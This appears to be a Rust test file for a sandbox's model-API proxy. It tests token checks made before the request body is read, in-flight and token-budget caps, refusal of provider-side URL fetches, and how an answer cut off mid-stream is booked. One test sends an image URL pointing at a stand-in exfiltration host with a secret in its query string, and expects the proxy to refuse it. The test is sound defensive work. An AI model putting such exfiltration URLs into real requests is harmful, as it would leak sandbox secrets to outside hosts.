//! The proxy as a guest meets it, through its router, against a fake upstream that never
//! answers: what is refused before the body is read, and what a burst of requests gets.

use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use tower::ServiceExt;

use super::*;
use crate::api::tests::state_with;

const SANDBOX: &str = "sb-pppppppppp";

/// An upstream that accepts connections and never answers.
async fn stalled_upstream() -> String {
    format!("http://{}", crate::api::tests::silent_server().await)
}

/// The proxy's router for sandbox `SANDBOX`, with an Anthropic upstream at `base_url` and a
/// record granting it that API with `budget`.
async fn proxy(base_url: String, budget: u64) -> (Router, Arc<Manager>, tempfile::TempDir) {
    let keys = tempfile::tempdir().unwrap();
    let key_file = keys.path().join("key");
    std::fs::write(&key_file, "sk-real").unwrap();
    std::fs::set_permissions(&key_file, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let (state, dir) = state_with(|cfg| {
        for flavour in [ModelFlavour::Anthropic, ModelFlavour::Openai] {
            let upstream = crate::config::ModelUpstream { base_url: base_url.clone(), key_file: key_file.clone() };
            cfg.models.insert(flavour, upstream);
        }
    })
    .await;
    std::mem::forget(keys);
    let mut rec = crate::store::test_record(SANDBOX);
    rec.models = Some(torpor_api::ModelGrant {
        providers: Some(vec![ModelFlavour::Anthropic, ModelFlavour::Openai]),
        token_budget: Some(budget),
    });
    state.manager.store().insert(&rec, 4).await.unwrap();
    let router = router(state.manager.clone()).layer(axum::Extension(FromSandbox(SANDBOX.into())));
    (router, state.manager.clone(), dir)
}

fn message(manager: &Manager, body: impl Into<Body>) -> Request<Body> {
    Request::post("/anthropic/v1/messages")
        .header("x-api-key", manager.proxy.token_for(SANDBOX))
        .header("content-type", "application/json")
        .body(body.into())
        .unwrap()
}

const HELLO: &str = r#"{"model":"m","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}"#;

#[tokio::test]
async fn nothing_of_the_body_is_read_before_the_token_is_checked() {
    let (router, _manager, _dir) = proxy(stalled_upstream().await, 0).await;
    // A body that blows up after 1 MiB: reading it at all would end the test.
    let chunks = futures::stream::iter(0..).map(|i| {
        assert!(i < 16, "the proxy read the body of a request with a wrong token");
        Ok::<_, std::io::Error>(axum::body::Bytes::from(vec![b' '; 64 << 10]))
    });
    let req = Request::post("/anthropic/v1/messages")
        .header("x-api-key", "torpor-proxy-wrong")
        .body(Body::from_stream(chunks))
        .unwrap();
    let resp = router.oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn a_burst_gets_at_most_the_in_flight_cap_upstream() {
    let (router, manager, _dir) = proxy(stalled_upstream().await, 0).await;
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    let mut tasks = Vec::new();
    for _ in 0..20 {
        let (router, tx, req) = (router.clone(), tx.clone(), message(&manager, HELLO));
        tasks.push(tokio::spawn(async move {
            let resp = router.oneshot(req).await.unwrap();
            let status = resp.status();
            let text = axum::body::to_bytes(resp.into_body(), 1 << 16).await.unwrap();
            let _ = tx.send((status, String::from_utf8_lossy(&text).into_owned()));
        }));
    }
    let mut refused = 0;
    for _ in 0..20 - ledger::IN_FLIGHT {
        let (status, text) = tokio::time::timeout(Duration::from_secs(30), rx.recv()).await.unwrap().unwrap();
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
        assert!(text.contains("model requests running already"), "refused for another reason: {text}");
        refused += 1;
    }
    // The rest are held by the upstream, which never answers.
    assert!(tokio::time::timeout(Duration::from_millis(300), rx.recv()).await.is_err());
    assert_eq!(refused, 20 - ledger::IN_FLIGHT);
    tasks.iter().for_each(|t| t.abort());
}

#[tokio::test]
async fn requests_in_flight_count_against_the_budget() {
    let (router, manager, _dir) = proxy(stalled_upstream().await, 30).await;
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    let mut tasks = Vec::new();
    for _ in 0..50 {
        let (router, tx, req) = (router.clone(), tx.clone(), message(&manager, HELLO));
        tasks.push(tokio::spawn(async move {
            let resp = router.oneshot(req).await.unwrap();
            let _ = tx.send(resp.status());
        }));
    }
    // One reserves past the 30-token budget and goes upstream (where it stalls); every other
    // one finds the budget committed.
    for _ in 0..49 {
        let status = tokio::time::timeout(Duration::from_secs(30), rx.recv()).await.unwrap().unwrap();
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    }
    assert!(tokio::time::timeout(Duration::from_millis(300), rx.recv()).await.is_err());
    tasks.iter().for_each(|t| t.abort());
}

#[tokio::test]
async fn provider_side_fetches_are_refused() {
    let (router, manager, _dir) = proxy(stalled_upstream().await, 0).await;
    let body = r#"{"model":"m","max_tokens":16,"messages":[{"role":"user","content":[
        {"type":"image","source":{"type":"url","url":"https://exfil.example/?data=secret"}}]}]}"#;
    let resp = router.clone().oneshot(message(&manager, body)).await.unwrap();
    assert_eq!(resp.status(), StatusCode::FORBIDDEN);
    let text = axum::body::to_bytes(resp.into_body(), 1 << 16).await.unwrap();
    assert!(String::from_utf8_lossy(&text).contains("fetch from a URL"), "{text:?}");
    let resp = router.oneshot(message(&manager, vec![b'{'; 1000])).await.unwrap();
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST, "not JSON");
}

/// An upstream that streams one piece of a chat answer and hangs up, before the usage event.
async fn cut_short_upstream() -> String {
    let app = Router::new().route(
        "/v1/chat/completions",
        axum::routing::post(|| async {
            let event = "data: {\"choices\":[{\"delta\":{\"content\":\"x\"}}],\"usage\":null}\n\n";
            ([("content-type", "text/event-stream")], event)
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await });
    format!("http://{addr}")
}

#[tokio::test]
async fn an_answer_cut_before_its_usage_is_booked_at_an_estimate() {
    let (router, manager, _dir) = proxy(cut_short_upstream().await, 0).await;
    let prompt = "word ".repeat(80_000);
    let body = serde_json::json!({"model": "m", "stream": true, "messages": [{"role": "user", "content": prompt}]});
    let req = Request::post("/openai/v1/chat/completions")
        .header("authorization", format!("Bearer {}", manager.proxy.token_for(SANDBOX)))
        .header("content-type", "application/json")
        .body(Body::from(body.to_string()))
        .unwrap();
    let resp = router.oneshot(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap();
    // Booked when the answer's stream is dropped, a moment later.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let meter = manager.store().get(SANDBOX).await.unwrap().unwrap().meter;
        if meter.model.input_tokens > 0 {
            assert!(meter.model.input_tokens >= 100_000, "{:?}", meter.model);
            break;
        }
        assert!(tokio::time::Instant::now() < deadline, "nothing was booked");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}
